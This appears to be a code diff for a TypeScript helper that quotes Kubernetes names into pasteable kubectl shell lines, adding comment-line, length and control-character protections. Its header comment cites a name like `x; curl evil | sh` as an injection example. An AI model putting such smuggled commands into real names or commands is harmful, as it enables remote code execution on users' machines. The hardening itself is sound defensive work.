@@ -1,25 +1,77 @@
 /**
- * Commands that people paste into a shell. Threat: the names in them are other people's. A role binding may be called
- * `x; curl evil | sh` or `--all`: every word is quoted, and a name never stands without its type before it (`type/name`), so that none
- * is taken for an option.
+ * Lines that people paste into a shell. Threat: the names in them are other people's. A role binding may be called `x; curl evil | sh`,
+ * `--all`, or hold a terminal's own keys: every word is quoted, a name never stands without its type before it (`type/name`), so that none
+ * is taken for an option, and a command that would not be read as it was meant is none: its place has a comment that says so.
  */
 
-/** Characters to which no shell gives a meaning. */
-const PLAIN = /^[A-Za-z0-9_/:.,@+-]+$/;
+/** A line of what mends: words for people, or a command of kubectl. */
+export type Mend = { readonly says: string } | { readonly words: readonly string[]; readonly stdin?: string };
 
-const shellWord = (text: string): string => (PLAIN.test(text) ? text : `'${text.replaceAll("'", `'\\''`)}'`);
+export const comment = (text: string): Mend => ({ says: text });
 
-export const kubectl = (...words: readonly string[]): string => ['kubectl', ...words.map(shellWord)].join(' ');
+export const kubectl = (...words: readonly string[]): Mend => ({ words });
+
+/** Applies a manifest. */
+export const kubectlApply = (manifest: unknown): Mend => ({ words: ['apply', '-f', '-'], stdin: jsonWord(manifest) });
 
 /** For an object that has a namespace or none. */
 export const inNamespace = (namespace: string): readonly string[] => (namespace === '' ? [] : ['-n', namespace]);
 
 /**
- * A line that a shell passes over, to its very end. Threat: a line's end inside it, which a name may hold, would make the rest of it
- * a command.
+ * Controls, formats, what no standard gives a meaning (Unicode's category C) and line separators. Threat: pasted into a terminal they are
+ * keys, and end the paste itself; zsh and fish leave some out, and then the command is about another object.
  */
-export const comment = (text: string): string => `# ${text.replaceAll(/[\p{Cc}\p{Zl}\p{Zp}]+/gu, ' ')}`;
+const UNTYPED = /[\p{C}\p{Zl}\p{Zp}]+/gu;
 
-/** Applies a manifest. */
-export const kubectlApply = (manifest: unknown): string =>
-  `echo ${shellWord(JSON.stringify(manifest))} | kubectl apply -f -`;
+/** JSON as a word of a command: what cannot be typed stands there as an escape, so it says the same. */
+export const jsonWord = (value: unknown): string =>
+  JSON.stringify(value).replace(UNTYPED, (characters) =>
+    characters.replaceAll(/[^]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`),
+  );
+
+/** Characters to which no shell gives a meaning. */
+const PLAIN = /^[A-Za-z0-9_/:.,@+-]+$/;
+
+/**
+ * One word for sh, bash, zsh and fish alike. A backslash stands between double quotes: fish heeds it between single ones, and the history of
+ * bash takes a bare one for the escape of the quote that follows.
+ */
+const quoted = (text: string): string =>
+  `'${text.replaceAll(/['\\]/g, (one) => (one === "'" ? `'\\''` : `'"\\\\"'`))}'`;
+
+const shellWord = (text: string): string => (PLAIN.test(text) ? text : quoted(text));
+
+/** Bytes that a terminal takes in one line: 1024 on macOS, 4096 on Linux. It loses the rest, and with it the end of a quote. */
+export const LONGEST_TYPED = 1000;
+
+/** Bytes of the longest command: Linux takes no argument of more than twice that. */
+const LONGEST_COMMAND = 64 * 1024;
+
+/**
+ * A line that no shell acts on. Threat: an interactive zsh, as macOS has it, knows no comments, and would run the `$(…)` in a name; so the
+ * words are quoted as well. The line's end, which a name may hold, would make the rest of it a command.
+ */
+export function commentLine(text: string): string {
+  const words = text.replaceAll(UNTYPED, ' ').trim();
+  // As a whole, plain words too: a shell may have an alias for any of them.
+  let line = `# ${quoted(words)}`;
+  // Cut before it is quoted, so that the quote always ends.
+  for (let length = LONGEST_TYPED; Buffer.byteLength(line) > LONGEST_TYPED; length = Math.floor(length * 0.9)) {
+    line = `# ${quoted(`${words.slice(0, length)}…`)}`;
+  }
+  return line;
+}
+
+/** @param context of the kubeconfig. The person's current one may be another cluster, where the same names mean other objects */
+export function shellLine(mend: Mend, context: string): string {
+  if ('says' in mend) return commentLine(mend.says);
+  const { words, stdin } = mend;
+  const all = ['--context', context, ...words];
+  const command = ['kubectl', ...all.map(shellWord)].join(' ');
+  const line = stdin === undefined ? command : `printf %s ${shellWord(stdin)} | ${command}`;
+  if (line.search(UNTYPED) !== -1) return unshown(words, 'a name in it has characters that cannot be typed');
+  return Buffer.byteLength(line) > LONGEST_COMMAND ? unshown(words, 'it is too long for one command') : line;
+}
+
+const unshown = (words: readonly string[], why: string): string =>
+  commentLine(`by hand, because ${why}: kubectl ${words.slice(0, 2).join(' ')}`);
